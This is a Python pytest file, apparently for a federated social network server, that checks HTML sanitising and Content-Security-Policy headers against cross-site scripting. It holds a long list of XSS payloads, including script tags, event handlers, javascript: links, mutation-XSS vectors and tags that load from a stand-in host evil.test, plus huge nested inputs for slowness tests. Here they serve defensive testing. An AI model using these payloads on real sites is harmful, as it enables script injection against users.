"""HTML and what looks like it, from other servers and from our own people, as the API and the pages give it back. XSS cases."""
import html.parser
import json
import re
import time
import urllib.parse

import pytest
from harness import LATE
from hostile import World

KEPT = {"p", "br", "span", "a", "del", "s", "pre", "blockquote", "code", "b", "strong", "u", "sub", "sup", "i", "em", "h1", "h2", "h3", "h4", "h5",
        "ul", "ol", "li", "ruby", "rt", "rp", "abbr"}
ATTRIBUTES = {"a": {"href", "rel", "class", "translate", "target"}, "span": {"class", "translate"}, "p": {"class"}, "ol": {"start", "reversed"},
              "li": {"value"}}
CLASSES = {"mention", "hashtag", "invisible", "ellipsis", "quote-inline"}
SCHEMES = {"http", "https", "dat", "dweb", "ipfs", "ipns", "ssb", "gopher", "xmpp", "magnet", "gemini", "mailto", "tel"}
ATTACKS = [
    '<script>alert(1)</script>', '<ScRiPt src=//evil.test/x.js></sCrIpT >', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<base href="//evil.test/">', '<form action="//evil.test"><input name=x><button>x</button></form>', '<style>@import "//evil.test";</style>',
    '<meta http-equiv=refresh content="0;url=//evil.test">', '<object data="x"></object>', '<embed src=x>', '<link rel=stylesheet href=//evil.test>',
    '<template><script>alert(1)</script></template>', '<video poster="javascript:alert(1)"><source onerror=alert(1)></video>', '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>', '<p style="background:url(//evil.test)" id=x name=y onclick=alert(1) data-x=y>x</p>',
    '<span class="btn admin-nav mention h-card" target=_top translate=no>x</span>', '<a href="//evil.test">x</a>', '<a>no href</a>', '<span class>x</span>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></table></mtext></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>', '<math><semantics><annotation>x</annotation></semantics></math>',
    '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<x/onclick=alert(1)>x</x>',
    '<p/onclick=alert(1)>x', '<p\x0conclick=alert(1)>x', '<\x0cscript>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<a href="https://x"onclick=alert(1)>x</a>',
    '<a href=`javascript:alert(1)`>x</a>', "<a href='javascript:alert(1)'>x</a>", '<a href="https://evil.test/" rel="me" target="_self">x</a>', '<plaintext>x', '<xmp><script>alert(1)</script></xmp>',
    '<textarea><script>alert(1)</script></textarea>', '<title><script>alert(1)</script></title>', '<select><option><script>alert(1)</script></select>', '<table><td><script>alert(1)</script></table>',
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '</p></div></body></html><script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '<<script>alert(1);//<</script>',
    '<img """><script>alert(1)</script>">', '<ol start="x" onclick=alert(1)><li value=1e9>x</ol>', '<p>' * 20 + 'x', '</p>' * 20, '<b><i></b></i>', '<a href="http://[::1">x</a>', '<a href="https://a@b@c">x</a>',
    '<a href="https://xn--/">x</a>', '<p title="<script>alert(1)</script>">x</p>', '<p', '<a href="', '<!--', '<', '&#0;&#x110000;&bogus;', '\u2028<script>alert(1)</script>',
]


class Checker(html.parser.HTMLParser):
    """What a browser would see in cleaned HTML: elements, attributes, links and levels."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.open, self.deepest, self.links = [], 0, []
        self.feed(text)
        self.close()
        assert self.open == [], f"not balanced: {self.open}"

    def handle_starttag(self, tag, attrs):
        assert tag in KEPT, f"<{tag}>"
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, ()), f"<{tag} {name}>"
            if name == "class":
                for c in (value or "").split():
                    assert c in CLASSES or c.split("-")[0] in ("h", "p", "u", "dt", "e"), c
        a = dict(attrs)
        if tag == "a" and "href" in a:
            self.links.append(a["href"])
            assert a["href"].split(":")[0].lower() in SCHEMES, a["href"]
            assert {"nofollow", "noopener", "noreferrer"} <= set(a["rel"].split()) and a.get("target") == "_blank", a
        if tag != "br":
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def handle_startendtag(self, tag, attrs):
        assert tag == "br", tag
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        assert self.open and self.open.pop() == tag, f"</{tag}>"

    def handle_comment(self, data):
        raise AssertionError("a comment")

    handle_decl = unknown_decl = handle_pi = handle_comment


def plain(text):
    """Text only: what an app would show even if it took it for HTML by mistake is for the app to escape; nothing is hidden in it."""
    assert isinstance(text, str)
    assert not set(text) & set("\x00\x08\x1b\u202e")


@pytest.fixture(scope="module")
def w():
    with World() as world:
        world.introduced(world.mallory)
        world.alice.follow(world.mallory.handle)
        world.takes(world.mallory.activity("Accept", world.evil.wait_for("Follow")))
        yield world


def shown(w, note):
    return w.alice.get(f"/api/v1/statuses/{w.value('SELECT id FROM statuses WHERE uri = ?', note['id'])}")


def received(w, content, **more):
    note = w.mallory.note("x", **more)
    note["content"] = content
    w.takes(w.mallory.create(note))
    return shown(w, note)


class Page(html.parser.HTMLParser):
    """A page of ours: no script of anybody, no event handlers, no foreign addresses that act."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        assert tag not in ("script", "iframe", "object", "embed", "base", "svg", "math", "template", "applet"), tag
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("style", "srcdoc", "xlink:href"), (tag, name)
            if name in ("href", "src", "action", "formaction", "poster"):
                assert (value or "").strip().split(":")[0].lower() not in ("javascript", "data", "vbscript"), (tag, name, value)
        if tag == "meta":
            assert dict(attrs).get("http-equiv", "").lower() != "refresh"

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text += data


def test_xss_01_05_06_08_09_remote_html_comes_out_harmless(w):
    for attack in ATTACKS:
        s = received(w, attack, summary=attack, name=attack, attachment=[
            {"type": "Image", "mediaType": "image/png", "url": w.evil.base + "/x.png", "name": attack}])
        Checker(s["content"])
        plain(s["spoiler_text"])
        plain(s["media_attachments"][0]["description"] or "")
        again = received(w, s["content"])
        assert again["content"] == s["content"], attack


def test_xss_01_remote_profiles_come_out_harmless(w):
    a = w.evil.actor("painted")
    w.introduced(a)
    for attack in ATTACKS:
        a.doc.update(name=attack, summary=attack, attachment=[{"type": "PropertyValue", "name": attack, "value": attack}])
        w.takes(a.activity("Update", a.doc), a)
        shown_account = w.alice.get("/api/v1/accounts/lookup", acct=a.handle)
        Checker(shown_account["note"])
        plain(shown_account["display_name"])
        for field in shown_account["fields"]:
            Checker(field["value"])
            plain(field["name"])


def test_xss_03_emojis_have_plain_names_and_http_pictures(w):
    tags = [{"type": "Emoji", "name": n, "icon": {"type": "Image", "url": u}} for n, u in (
        (':a"><script>:', w.evil.base + "/ok.png"), (":ok:", 'x" onerror="alert(1)'), (":ok2:", "javascript:alert(1)"), (":ok3:", "data:image/png,x"),
        (":ok4:", w.evil.base + '/x" onerror="alert(1)'), (":good:", w.evil.base + "/good.png"), ("a b", w.evil.base + "/x"), ("é", w.evil.base + "/x"))]
    s = received(w, "<p>:good: :ok:</p>", tag=tags)
    assert "good" in [e["shortcode"] for e in s["emojis"]]
    for e in s["emojis"]:
        assert e["shortcode"].replace("_", "").replace("-", "").isalnum() and e["shortcode"].isascii()
        for url in (e["url"], e["static_url"]):
            assert "/media_proxy/" in url and w.evil.base not in url and not set(url) & set("\"'<> "), url


def test_xss_07_deep_and_huge_html_is_quick_and_shallow(w):
    for text in ("<b>" * 100000, "<div>" * 100000, "<blockquote>" * 40000, "<p>" * 100000, "<" * 500000, "<p " + "a=b " * 100000 + ">x", "<p " + " ".join(
            f"a{i}=b" for i in range(50000)) + ">x</p>", "</b>" * 100000, "<ul><li>" * 30000, "&" * 300000, "<a href='" + "a" * 200000 + "'>x</a>",
            "<b><i>" * 30000 + "</b></i>" * 30000, "<!--" * 100000, "<span class='" + "h-a " * 50000 + "'>x</span>"):
        began = time.monotonic()
        s = received(w, text)
        took = time.monotonic() - began
        assert Checker(s["content"]).deepest <= 64
        assert took < 1.0 * LATE, (text[:20], took)


def test_xss_12_pages_escape_whatever_people_wrote(w):
    attack = '"><script>alert(1)</script><img src=x onerror=alert(1)>\'-->'
    w.alice.patch("/api/v1/accounts/update_credentials", display_name=attack[:30], note=attack, fields_attributes=[{"name": attack, "value": attack}])
    post = w.alice.status(attack, spoiler_text=attack)
    nobody = w.server.anonymous()
    for path in ("/", "/about", "/@alice", f"/@alice/{post['id']}", "/tags/" + urllib.parse.quote(attack, safe=""), "/nothing/" + urllib.parse.quote(attack, safe=""),
                 "/@" + urllib.parse.quote(attack, safe=""), "/oauth/authorize?client_id=" + urllib.parse.quote(attack),
                 "/auth/sign_in?redirect=" + urllib.parse.quote(attack), "/authorize_interaction?uri=" + urllib.parse.quote(attack)):
        r = nobody.raw("GET", path, headers={"Accept": "text/html"})
        assert r.status_code < 500, path
        if "html" in r.headers.get("Content-Type", ""):
            Page(r.text)
            assert "script" in r.headers["Content-Security-Policy"] or "default-src" in r.headers["Content-Security-Policy"]
            csp = r.headers["Content-Security-Policy"]
            assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    app = nobody.post("/api/v1/apps", client_name=attack, redirect_uris="urn:ietf:wg:oauth:2.0:oob", scopes="read")
    r = w.server.anonymous().raw("GET", "/oauth/authorize", params={"response_type": "code", "client_id": app["client_id"], "scope": "read",
                                                                  "redirect_uri": "urn:ietf:wg:oauth:2.0:oob", "state": attack})
    Page(r.text)


def test_xss_15_what_our_own_people_type_comes_out_as_text(w):
    typed = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '[x](javascript:alert(1))', 'https://a.test/"onmouseover=alert(1)', '@x"onclick=alert(1)@h.test',
             '#"><b>x</b>', '@alice"><script>', '#tag"><script>', 'http://a.test/<script>', 'javascript:alert(1)', 'https://a.test/\'><img src=x>', '&lt;script&gt;', '`<script>`',
             '![x](https://evil.test/x.png)', '<https://a.test/"onclick=alert(1)>', '[x](https://a.test "onclick=alert(1)")', '[x]: javascript:alert(1)\n\n[x]',
             '<a href="javascript:alert(1)">x</a>', '</p><script>alert(1)</script>', '<!-- x -->', 'x\u202ey', '```html\n<script>alert(1)</script>\n```']
    for content_type in ("text/plain", "text/markdown"):
        for text in typed:
            s = w.alice.status(text, content_type=content_type)
            links = Checker(s["content"]).links
            assert all(urllib.parse.urlsplit(u).scheme in ("http", "https") for u in links), (text, links)
            assert all(not set(u) & set('"<>') for u in links), (text, links)
            page = w.server.anonymous().raw("GET", f"/@alice/{s['id']}", headers={"Accept": "text/html"})
            Page(page.text)
            doc = w.server.anonymous().raw("GET", f"/users/alice/statuses/{s['id']}", headers={"Accept": "application/activity+json"})
            Checker(json.loads(doc.text)["content"])
    for text in typed:
        me = w.alice.patch("/api/v1/accounts/update_credentials", note=text, fields_attributes=[{"name": text[:50], "value": text}])
        Checker(me["note"])
        for f in me["fields"]:
            Checker(f["value"])


def test_xss_13_pages_and_files_carry_their_policies(w):
    nobody = w.server.anonymous()
    for path in ("/", "/about", "/@alice", "/tags/x", "/auth/sign_in", "/oauth/authorize", "/nothing", "/authorize_interaction?uri=x", "/assets/style.css",
                 "/avatars/original/missing.png", "/headers/original/missing.png", "/robots.txt"):
        r = nobody.raw("GET", path, headers={"Accept": "text/html"})
        csp = r.headers["Content-Security-Policy"]
        assert re.search(r"default-src '(none|self)'", csp) and "unsafe" not in csp and "*" not in csp, (path, csp)
        assert r.headers["X-Content-Type-Options"] == "nosniff", path
        if "html" in r.headers["Content-Type"]:
            for part in ("base-uri 'none'", "frame-ancestors 'none'", "form-action"):
                assert part in csp, (path, csp)
            assert r.headers["Referrer-Policy"] in ("no-referrer", "same-origin", "strict-origin", "strict-origin-when-cross-origin", "origin"), path
